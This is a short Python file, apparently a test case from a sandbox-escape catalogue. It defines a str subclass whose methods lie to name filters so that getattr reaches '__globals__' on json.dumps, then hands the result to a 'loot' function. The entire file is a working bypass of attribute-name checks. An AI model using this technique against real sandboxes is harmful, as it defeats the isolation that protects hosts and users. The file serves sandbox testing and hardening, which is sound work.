# aim: use a name that claims not to begin or end with underscores
# mechanism: a str subclass with lying methods; the C code reads the buffer
# language: builtins
# reason: the name that was checked must be the name that is read
# jail: process
# plain: loot

import json


class Liar(str):
    def startswith(self, *args):
        return False

    endswith = startswith
    __contains__ = startswith

    def __getitem__(self, index):
        return "name"[index]

    def strip(self, *args):
        return "name"

    lower = casefold = strip


loot(getattr(json.dumps, Liar("__globals__")))
